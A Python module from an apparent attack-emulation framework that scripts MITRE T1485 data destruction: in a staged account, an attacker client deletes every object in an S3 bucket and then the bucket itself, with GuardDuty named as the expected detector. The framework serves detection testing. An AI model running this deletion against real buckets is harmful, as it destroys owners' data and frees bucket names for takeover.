"""Delete what a bucket holds, and the bucket with it, so that its name can be taken by somebody else."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A bucket's objects are deleted",
    mitre=("T1485",),
    tactic="impact",
    detectors=("GuardDuty Impact:S3/AnomalousBehavior.Delete",),
    expected=Recorded("deleting objects is ordinary work; versions and backups are what is left"),
    source="Amazon S3 API Reference, DeleteObjects",
)


def prepare(stage: Stage) -> Scene:
    """A bucket with something in it."""
    return {"bucket": stage.bucket("uploads")}


def attack(stage: Stage, scene: Scene) -> None:
    """Delete all objects, and the bucket with them."""
    s3 = stage.attacker().client("s3")
    found = s3.list_objects_v2(Bucket=scene["bucket"])["Contents"]
    s3.delete_objects(Bucket=scene["bucket"], Delete={"Objects": [{"Key": one["Key"]} for one in found]})
    s3.delete_bucket(Bucket=scene["bucket"])


def succeeded(stage: Stage, scene: Scene) -> bool:
    """There is no such bucket."""
    return scene["bucket"] not in [one["Name"] for one in stage.owner().client("s3").list_buckets()["Buckets"]]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the bucket, if it is left."""
    if not succeeded(stage, scene):
        stage.drop_bucket(scene["bucket"])
